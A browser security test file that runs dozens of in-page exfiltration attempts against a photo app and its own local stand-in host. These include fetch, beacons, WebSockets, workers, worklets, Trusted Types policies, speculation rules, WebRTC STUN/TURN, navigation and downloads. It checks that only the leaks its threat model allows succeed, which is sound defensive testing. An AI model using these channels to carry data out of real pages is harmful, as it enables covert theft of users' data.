// Roads out of the page, tried by hostile code that runs in it: to its own host and to another, past the service worker and past the policy. What
// arrives is what THREAT_MODEL.md says that such code can still do, and nothing else.

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { setTimeout as pause } from 'node:timers/promises';

import { launch } from '../../scripts/chromium.mjs';
import { launch as launchFirefox } from '../../scripts/firefox.mjs';
import { site } from './site.mjs';

/** Runs in the page. `own` and `other` are addresses that name the road; `tcp` and `udp` are ports of the other host that know it. */
const QUIET = {
  'fetch': ({ own }) => fetch(own, { method: 'POST', body: 'a photo' }),
  'fetch, other host': ({ other }) => fetch(other, { mode: 'no-cors' }),
  'fetchLater': ({ own }) => fetchLater(own, { activateAfter: 0 }),
  'fetchLater, posted': ({ own }) => fetchLater(own, { method: 'POST', body: 'a photo', activateAfter: 0 }),
  'beacon': ({ own }) => navigator.sendBeacon(own, 'a photo'),
  'XMLHttpRequest': ({ own }) => {
    const request = new XMLHttpRequest();
    request.open('GET', own);
    request.send();
  },
  'XMLHttpRequest that waits': ({ own }) => {
    const request = new XMLHttpRequest();
    request.open('GET', own, false);
    request.send();
  },
  'WebSocket': ({ own }) => new WebSocket(own.replace('http', 'ws')),
  'WebSocket, other host': ({ other }) => new WebSocket(other.replace('http', 'ws')),
  'WebSocketStream': ({ own }) => new WebSocketStream(own.replace('http', 'ws')),
  'EventSource': ({ own }) => new EventSource(own),
  'WebTransport': ({ other }) => new WebTransport(other.replace('http:', 'https:')),
  'ping': ({ own }) => {
    const link = Object.assign(document.createElement('a'), { href: '#ping', ping: own });
    document.body.append(link);
    link.click();
  },
  'service worker, another script': ({ own }) => navigator.serviceWorker.register(own, { scope: './icons/' }),
  'service worker, ours with a query': ({ own }) => navigator.serviceWorker.register(`sw.js${new URL(own).search}`, { scope: './icons/' }),
  'background fetch': async ({ own }) => (await navigator.serviceWorker.getRegistration())?.backgroundFetch.fetch('a', own),
  'worker': ({ own }) => new Worker(own),
  'worker, ours with a query': ({ own }) => new Worker(`worker.js${new URL(own).search}`),
  'worker, from a string': ({ own }) => new Worker(URL.createObjectURL(new Blob([`fetch('${own}')`]))),
  'our checker, asked for something else': ({ own }) => new Worker('checker.js', { type: 'module' }).postMessage({ id: 1, which: own }),
  'shared worker': ({ own }) => new SharedWorker(own),
  'worklet': ({ own }) => CSS.paintWorklet.addModule(own),
  'audio worklet': ({ own }) => new AudioContext().audioWorklet.addModule(own),
  'another policy for scripts': ({ own }) => {
    const trusted = trustedTypes.createPolicy('mine', { createScriptURL: (address) => address });
    document.head.append(Object.assign(document.createElement('script'), { src: trusted.createScriptURL(own) }));
  },
  'the same policy again': ({ own }) => {
    const trusted = trustedTypes.createPolicy('default', { createScriptURL: (address) => address });
    document.head.append(Object.assign(document.createElement('script'), { src: trusted.createScriptURL(own) }));
  },
  'script': ({ own }) => document.head.append(Object.assign(document.createElement('script'), { src: own })),
  'import': ({ own }) => import(own),
  'markup': ({ own }) => document.body.insertAdjacentHTML('beforeend', `<svg><use href="${own}#a"/></svg><img src="${own}">`),
  'image': ({ own }) => (new Image().src = own),
  'image, other host': ({ other }) => (new Image().src = other),
  'image in SVG': ({ own }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    for (const name of ['image', 'use', 'feImage']) svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', name)).setAttribute('href', own);
    document.body.append(svg);
  },
  'background of a style': ({ own }) => document.body.style.setProperty('background-image', `url("${own}")`),
  'style sheet in the page': ({ own }) => document.head.append(Object.assign(document.createElement('style'), { textContent: `@import "${own}";` })),
  'font': ({ own }) => new FontFace('stolen', `url("${own}")`).load(),
  'video': ({ own }) => document.body.append(Object.assign(document.createElement('video'), { src: own, poster: own, preload: 'auto' })),
  'object': ({ own }) => document.body.append(Object.assign(document.createElement('object'), { type: 'text/html', data: own })),
  'frame': ({ own }) => document.body.append(Object.assign(document.createElement('iframe'), { src: own })),
  'frame, other host': ({ other }) => document.body.append(Object.assign(document.createElement('iframe'), { src: other })),
  'frame that goes on': ({ other }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentWindow.location = other;
  },
  ...Object.fromEntries(
    ['stylesheet', 'icon', 'manifest', 'prefetch', 'prerender', 'modulepreload', 'compression-dictionary'].map((rel) => [
      `link ${rel}`,
      new Function('{ own }', `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: own }))`),
    ]),
  ),
  'link preload': ({ own }) => ['fetch', 'image', 'font', 'script', 'style'].forEach((as) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as, href: own, crossOrigin: '' }))),
  'link prefetch, other host': ({ other }) => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: other })),
  'preconnect': ({ tcp }) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `http://localhost:${tcp}` })),
  'speculation rules': ({ own, other }) => {
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: [own, other], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [own], eagerness: 'immediate' }] });
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }));
  },
  'payment': ({ other }) => new PaymentRequest([{ supportedMethods: other.replace('http:', 'https:') }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment(),
  'sign-in (FedCM)': ({ other }) => navigator.credentials.get({ identity: { providers: [{ configURL: other.replace('http:', 'https:'), clientId: 'a' }] } }),
  'cache': async ({ own }) => (await caches.open('stolen')).add(own),
};

/** As above; these leave the page, or end it. */
const LOUD = {
  'STUN': async ({ udp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:localhost:${udp}` }] });
    connection.createDataChannel('a');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'TURN': async ({ tcp }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `turn:localhost:${tcp}?transport=tcp`, username: 'a photo', credential: 'a' }] });
    connection.createDataChannel('a');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'TURN out of a frame': async ({ tcp }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const connection = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `turn:localhost:${tcp}?transport=tcp`, username: 'a photo', credential: 'a' }] });
    connection.createDataChannel('a');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'form': ({ own }) => {
    const form = Object.assign(document.createElement('form'), { action: own, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'going there': ({ own }) => void (location.href = own),
  'going there, other host': ({ other }) => void (location.href = other),
  'refresh': ({ own }) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${own}` })),
  'refresh, other host': ({ other }) => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${other}` })),
  'link out of a frame, other host': ({ other }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const link = Object.assign(frame.contentDocument.createElement('a'), { href: other, target: '_top' });
    frame.contentDocument.body.append(link);
    link.click();
  },
  'new window': ({ own }) => void window.open(own),
  'new window, other host': ({ other }) => void window.open(other),
  'new window on its own, other host': ({ other }) => void window.open(other, '_blank', 'noopener'),
  'empty window that goes on, other host': ({ other }) => void (window.open('').location = other),
  'link to a new window': ({ own }) => {
    const link = Object.assign(document.createElement('a'), { href: own, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'link to a new window, other host': ({ other }) => {
    const link = Object.assign(document.createElement('a'), { href: other, target: '_blank' });
    document.body.append(link);
    link.click();
  },
  'download': ({ own }) => {
    const link = Object.assign(document.createElement('a'), { href: own, download: 'a' });
    document.body.append(link);
    link.click();
  },
  'download, other host': ({ other }) => {
    const link = Object.assign(document.createElement('a'), { href: other, download: 'a' });
    document.body.append(link);
    link.click();
  },
};

const GOING = ['going there', 'refresh', 'new window', 'link to a new window', 'download'];
const GOING_ELSEWHERE = ['going there, other host', 'refresh, other host', 'link out of a frame, other host', 'new window, other host', 'new window on its own, other host', 'empty window that goes on, other host', 'link to a new window, other host', 'download, other host'];
/** What its own host serves as part of the page goes through the service worker; where there is none, to the host. */
const PARTS = ['worklet', 'audio worklet', 'import', 'image', 'image in SVG', 'background of a style', 'video', 'link icon', 'link stylesheet', 'link prefetch', 'link preload', 'link modulepreload'];

const BROWSERS = [
  { name: 'Chromium', open: () => chromium({}), remains: GOING },
  { name: 'Chromium without a service worker', open: () => chromium({ serviceWorkers: 'block' }), remains: [...GOING, ...PARTS] },
  { name: 'Firefox', open: firefox, remains: [...GOING, ...GOING_ELSEWHERE, 'TURN', 'TURN out of a frame'] },
];

for (const { name, open, remains } of BROWSERS) {
  describe(name, { timeout: 180_000 }, () => {
    let [own, other, browser] = [];
    before(async () => {
      [own, other] = [await site(), await otherHost()];
      browser = await open();
    });
    after(async () => {
      await browser.close();
      other.close();
      await own.close();
    });

    test('what hostile code sends arrives nowhere but where THREAT_MODEL.md says so', async () => {
      const names = [...Object.keys(QUIET), ...Object.keys(LOUD)];
      const road = async (wanted) => ({ own: `${own.address}collect?road=${names.indexOf(wanted)};`, other: `http://localhost:${other.port}/collect?road=${names.indexOf(wanted)};`, tcp: await other.tcp(wanted), udp: await other.udp(wanted) });
      const page = await browser.visit(own.address);
      await page.ready();
      own.asked.length = 0;
      for (const [wanted, action] of Object.entries(QUIET)) await page.run(action, await road(wanted));
      await pause(2500);
      await page.close();
      for (const [wanted, action] of Object.entries(LOUD)) {
        const one = await browser.visit(own.address);
        await one.run(action, await road(wanted));
        await pause(700);
        await one.close();
      }
      await pause(500);
      const lines = [...own.asked, ...other.heard];
      const arrived = names.filter((wanted, index) => other.known.has(wanted) || lines.some((line) => line.includes(`road=${index};`)));
      assert.deepEqual(arrived.sort(), [...remains].sort());
    });
  });
}

/** Another host: it hears what is asked of it, and who knocks at a port of its own. */
async function otherHost() {
  const [heard, known, opened] = [[], new Set(), []];
  const listen = async (wanted) => {
    const server = createServer((socket) => {
      if (wanted !== undefined) known.add(wanted);
      socket.on('error', () => undefined).once('data', (data) => {
        heard.push(data.toString('latin1'));
        socket.end('HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n');
      });
    });
    opened.push(server);
    await new Promise((done) => server.listen(0, 'localhost', done));
    return server.address().port;
  };
  return {
    heard,
    known,
    port: await listen(undefined),
    tcp: listen,
    udp: async (wanted) => {
      const socket = createSocket('udp4').on('message', () => known.add(wanted));
      opened.push(socket);
      await new Promise((done) => socket.bind(0, '127.0.0.1', done));
      return socket.address().port;
    },
    close: () => opened.forEach((one) => one.close()),
  };
}

async function chromium(context) {
  const browser = await launch();
  const windows = await browser.newContext(context);
  return {
    visit: async (address) => {
      const page = await windows.newPage();
      await page.goto(address);
      return {
        ready: () => page.locator('[data-engine="ready"]').waitFor({ timeout: 90_000 }),
        run: (action, road) => run(page, action, road),
        // With it what it opened.
        close: () => Promise.all(windows.pages().map((one) => one.close())),
      };
    },
    close: () => browser.close(),
  };
}

async function firefox() {
  const browser = await launchFirefox();
  const first = await browser.pages();
  return {
    visit: async (address) => {
      const page = await browser.newPage();
      await page.goto(address);
      return {
        ready: () => page.waitForSelector('[data-engine="ready"]', { timeout: 90_000 }),
        run: (action, road) => run(page, action, road),
        close: async () => {
          for (const one of await browser.pages()) if (!first.includes(one)) await one.close().catch(() => undefined);
        },
      };
    },
    close: () => browser.close(),
  };
}

/** What an attempt throws is no concern of ours; a page that leaves, or that the browser ends, answers no more. */
async function run(page, action, road) {
  await Promise.race([page.evaluate(action, road).then(() => undefined, () => undefined), pause(400)]);
}
